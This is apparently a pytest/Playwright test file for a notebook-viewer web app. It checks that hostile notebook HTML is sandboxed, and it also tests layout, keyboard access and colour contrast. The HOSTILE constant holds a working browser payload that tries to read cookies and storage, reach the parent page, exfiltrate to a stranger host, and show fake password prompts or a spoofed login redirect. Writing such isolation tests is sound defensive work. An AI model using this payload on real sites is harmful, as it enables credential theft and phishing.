"""The pages in a real browser: what a hostile notebook can do there (nothing), and how the pages look and feel.

Needs the distribution's Chromium (`apt-get install chromium`, or CHROMIUM with its path).
"""

import pytest

from builders import RUN_ID, a_manifest, an_output
from daybook.contract.manifest import CellCounts, CellError, NotebookRecord, Reason, State
from web_browser import SECRET, answering

HOSTILE = """<!doctype html><title>hostile</title><pre id="report"></pre>
<link rel="stylesheet" href="STRANGER/style"><script src="STRANGER/script"></script><img src="STRANGER/tag">
<iframe src="STRANGER/frame"></iframe><object data="STRANGER/object"></object>
<base href="STRANGER/base/">
<svg><script>fetch('STRANGER/svg', {mode: 'no-cors'}).catch(() => 0)</script>
<image href="STRANGER/svg-image"/><a href="STRANGER/svg-link"><text id="svg-link">x</text></a></svg>
<a id="link" href="STRANGER/link" target="_top">x</a><a id="blank" href="STRANGER/blank" target="_blank">x</a>
<form id="form" action="STRANGER/form" method="post"><input name="a" value="b"></form>
<script>
const report = {};
async function attempt(name, deed) {
  try { report[name] = 'got ' + await deed(); } catch (error) { report[name] = 'refused'; }
}
(async () => {
  await attempt('own cookie', () => document.cookie);
  await attempt('storage', () => localStorage.length);
  await attempt('page', () => parent === window ? Promise.reject() : parent.document.body.innerText);
  await attempt('page cookie', () => parent === window ? Promise.reject() : parent.document.cookie);
  await attempt('manifest', async () => (await fetch('MANIFEST', {credentials: 'include'})).text());
  await attempt('fetch', async () => (await fetch('STRANGER/fetch', {mode: 'no-cors'})).type);
  await attempt('import', () => import('STRANGER/import'));
  await attempt('worker', () => new Promise((yes, no) => {
    const worker = new Worker('STRANGER/worker'); worker.onerror = no; worker.onmessage = yes; }));
  await attempt('beacon', () => navigator.sendBeacon('STRANGER/beacon', 'x'));
  await attempt('image', () => new Promise((yes, no) => {
    const image = new Image(); image.onload = yes; image.onerror = no; image.src = 'STRANGER/image'; }));
  await attempt('socket', () => new Promise((yes, no) => {
    const socket = new WebSocket('STRANGER/socket'.replace('http', 'ws'));
    socket.onopen = yes; socket.onerror = no; }));
  await attempt('same site', async () => (await fetch('/runs', {credentials: 'include'})).text());
  await attempt('posting', () => new Promise((yes, no) => {
    const ask = new XMLHttpRequest(); ask.onload = yes; ask.onerror = no;
    ask.open('POST', 'CANCEL'); ask.send('x'); }));
  await attempt('events', () => new Promise((yes, no) => {
    const source = new EventSource('EVENTS'); source.onopen = yes; source.onerror = no; }));
  await attempt('service worker', () => navigator.serviceWorker.register('/static/run.js'));
  await attempt('session', () => sessionStorage.length);
  await attempt('database', () => new Promise((yes, no) => {
    const asked = indexedDB.open('x'); asked.onsuccess = yes; asked.onerror = no; }));
  await attempt('opener', () => opener.document.title);
  await attempt('dialog', () => { alert('Log in again'); return prompt('Password') || Promise.reject(); });
  await attempt('blank', () => { document.getElementById('blank').click(); return Promise.reject(); });
  await attempt('window', () => window.open('STRANGER/window').name);
  await attempt('form', () => { document.getElementById('form').submit(); return Promise.reject(); });
  if (parent !== window) {
    await attempt('link', () => { document.getElementById('link').click(); return Promise.reject(); });
    await attempt('top', () => { top.location = 'STRANGER/top'; });
    await attempt('parent', () => { parent.location.href = 'STRANGER/parent'; });
  }
  report.scripts = 'ran';
  document.getElementById('report').textContent = JSON.stringify(report);
  document.title = 'done';
})();
</script>"""


def hostile_html(stranger: str) -> bytes:
    page = f"/runs/open/{RUN_ID}"
    names = {
        "STRANGER": stranger,
        "MANIFEST": f"{page}/manifest.json",
        "CANCEL": f"{page}/cancel",
        "EVENTS": f"/api/v1{page}/events",
    }
    hostile = HOSTILE
    for name, place in names.items():
        hostile = hostile.replace(name, place)
    return hostile.encode()


REFUSED = ["own cookie", "storage", "page", "page cookie", "manifest", "fetch", "import", "worker", "image", "socket"]
REFUSED += ["same site", "posting", "events", "service worker", "session", "database", "opener", "dialog"]


def assert_harmless(report: dict[str, str], heard: list[str]) -> None:
    assert report["scripts"] == "ran", "plots and widgets need their scripts"
    assert {name: report[name] for name in REFUSED} == dict.fromkeys(REFUSED, "refused")
    assert SECRET not in str(report)
    assert heard == []


def report_of(frame) -> dict[str, str]:
    frame.wait_for_function("document.title === 'done'")
    return frame.evaluate("JSON.parse(document.getElementById('report').textContent)")


def test_a_hostile_notebook_in_the_page_reaches_neither_page_nor_viewer_nor_network(site, save, open_page, stranger):
    url, heard = stranger
    path = save(a_manifest(), {"notebook.html": hostile_html(url)})
    page = open_page()
    page.goto(site + path)
    page.locator("iframe").scroll_into_view_if_needed()
    frame = page.wait_for_selector("iframe").content_frame()
    assert_harmless(report_of(frame), heard)
    assert page.url == site + path
    assert page.evaluate("document.cookie") == f"_token={SECRET}", "the cookie was there to be taken"
    assert page.context.pages == [page]


def test_a_hostile_notebook_on_its_own_reaches_neither_viewer_nor_network(site, save, open_page, stranger):
    url, heard = stranger
    path = save(a_manifest(), {"notebook.html": hostile_html(url)})
    page = open_page()
    page.goto(f"{site}{path}/notebook")
    assert_harmless(report_of(page), heard)
    assert page.context.pages == [page]


@pytest.mark.parametrize(
    "html",
    [
        "<script>location = 'STRANGER/login'</script>",
        "<meta http-equiv='refresh' content='0;url=STRANGER/login'>",
        "<a href='STRANGER/login' id='a'>x</a><script>document.getElementById('a').click()</script>",
        "<svg><a href='STRANGER/login' id='a'><text>x</text></a></svg>"
        "<script>document.getElementById('a').dispatchEvent(new MouseEvent('click'))</script>",
    ],
)
def test_a_hostile_notebook_cannot_swap_itself_for_a_strangers_page(site, save, open_page, stranger, html):
    """A false login page inside our own page would look like ours."""
    url, heard = stranger
    path = save(a_manifest(), {"notebook.html": html.replace("STRANGER", url).encode()})
    page = open_page()
    refusals = []
    page.on("console", lambda message: refusals.append(message.text))
    page.goto(site + path)
    page.locator("iframe").scroll_into_view_if_needed()
    page.wait_for_function("() => true")
    while not any("frame-src" in text for text in refusals):
        page.wait_for_event("console")
    assert heard == []


def test_the_same_notebook_unguarded_would_have_reached_the_network(our_server, open_page, stranger):
    """So that the tests above cannot pass because the attack is no good."""
    site, switch = our_server
    url, heard = stranger
    switch.app = answering(hostile_html(url))
    page = open_page()
    page.goto(f"{site}/attack", wait_until="commit")
    page.wait_for_url(f"{url}/form")
    assert {"/style", "/script", "/tag", "/frame", "/object", "/fetch", "/import", "/beacon", "/image"} <= set(heard)


@pytest.mark.parametrize("name", ["evil.html", "evil.svg"])
def test_an_output_that_is_a_page_is_saved_and_not_shown(site, save, open_page, name):
    output = an_output(name, media_type="text/html" if name.endswith("html") else "image/svg+xml")
    path = save(a_manifest(outputs=(output,)), {output.key: b"<script>document.title = 'ran'</script>"})
    page = open_page()
    page.goto(site + path)
    with page.expect_download() as download:
        page.get_by_role("link", name=name).click()
    assert download.value.suggested_filename == name
    assert page.url == site + path


LONG = "a_very_long_name_without_any_place_to_break_" * 4
LONGEST = a_manifest(
    state=State.FAILED,
    reason=Reason.CELL_ERROR,
    message=LONG,
    notebook=NotebookRecord(id=LONG, title=LONG, source="x"),
    workspace=LONG,
    user=LONG,
    parameters={LONG: LONG, "url": "https://example.org/" + "x/" * 200},
    results={LONG: 123456789.123456789, "list": list(range(500))},
    cells=CellCounts(total=500, succeeded=300, failed=1, not_run=199),
    error=CellError(cell=3, name=LONG, value=LONG, source=LONG, traceback=f"{LONG} {LONG}\n" * 50),
    outputs=(an_output(f"{LONG}.csv", media_type=f"application/{LONG}"),),
    packages={LONG: LONG},
)


def test_nothing_overflows_at_any_width(site, save, open_page):
    page = open_page()
    page.goto(site + save(LONGEST, {"notebook.html": b"x"}))
    page.locator("summary").click()
    for width in (320, 390, 768, 1280):
        page.set_viewport_size({"width": width, "height": 844})
        assert page.evaluate("document.documentElement.scrollWidth") == width


def test_everything_can_be_reached_and_seen_by_keyboard(site, save, open_page):
    output = an_output("a.csv")
    manifest = a_manifest(outputs=(output,), error=CellError(name="E", source="x", traceback="y"), packages={"a": "1"})
    page = open_page()
    page.goto(site + save(manifest, {"notebook.html": b"x"}))
    wanted = page.locator("a, pre, summary").count()
    reached = set()
    for _ in range(wanted):
        page.keyboard.press("Tab")
        reached.add(page.evaluate("document.activeElement.outerHTML"))
        assert page.evaluate("getComputedStyle(document.activeElement).outlineStyle") == "solid"
    assert len(reached) == wanted


def test_the_page_asks_for_nothing_that_its_own_policy_refuses(site, save, open_page):
    image = an_output("plot.png", media_type="image/png")
    png = bytes.fromhex(
        "89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c489"
        "0000000d49444154789c63606060f80f0001040100a5f645400000000049454e44ae426082"
    )
    path = save(a_manifest(outputs=(image,)), {"notebook.html": b"<h1>shown</h1>", image.key: png})
    page = open_page(viewport={"width": 1280, "height": 3000})
    complaints = []
    page.on("console", lambda message: complaints.append(message.text))
    page.goto(site + path, wait_until="networkidle")
    assert page.frame_locator("iframe").get_by_role("heading").inner_text() == "shown"
    assert page.evaluate("document.querySelector('img').naturalWidth") == 1
    assert complaints == []


CONTRAST = """
(() => {
  const numbers = text => text.match(/[\\d.]+/g).map(Number);
  const canvas = document.createElement('canvas').getContext('2d', {willReadFrequently: true});
  const rgb = colour => { canvas.clearRect(0, 0, 1, 1); canvas.fillStyle = colour; canvas.fillRect(0, 0, 1, 1);
    return [...canvas.getImageData(0, 0, 1, 1).data]; };
  const light = ([r, g, b]) => [r, g, b].map(c => (c /= 255) <= .03928 ? c / 12.92 : ((c + .055) / 1.055) ** 2.4)
    .reduce((sum, c, i) => sum + c * [.2126, .7152, .0722][i], 0);
  const behind = node => { for (; node; node = node.parentElement) {
    const found = rgb(getComputedStyle(node).backgroundColor); if (found[3] === 255) return found; } };
  const low = [];
  for (const node of document.querySelectorAll('body *')) {
    if (![...node.childNodes].some(child => child.nodeType === 3 && child.textContent.trim())) continue;
    const [one, other] = [light(rgb(getComputedStyle(node).color)), light(behind(node))].sort((a, b) => b - a);
    if ((one + .05) / (other + .05) < 4.5) low.push(node.className + ' ' + node.textContent.trim().slice(0, 30));
  }
  return low;
})()
"""


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_every_word_stands_out_enough_to_be_read(site, save, open_page, scheme):
    """WCAG's 4.5 to 1, in every state."""
    page = open_page(color_scheme=scheme)
    for attempt, state in enumerate(State, start=1):
        manifest = a_manifest(
            attempt=attempt,
            state=state,
            reason=Reason.CELL_ERROR,
            message="why",
            outputs=(an_output(),),
            results={"none": None},
            error=CellError(cell=1, name="E", source="x", traceback="y"),
        )
        page.goto(site + save(manifest))
        assert (state, page.evaluate(CONTRAST)) == (state, [])


def test_the_page_follows_a_run_by_itself_until_it_is_sealed(site, save, open_page):
    unsealed = a_manifest(state=State.RUNNING, sealed=False, cells=CellCounts(total=5, succeeded=1))
    page = open_page()
    page.goto(site + save(unsealed))
    assert page.locator(".state").inner_text() == "running"
    save(a_manifest())
    page.locator(".state", has_text="succeeded").wait_for()
    assert "http-equiv" not in page.content()
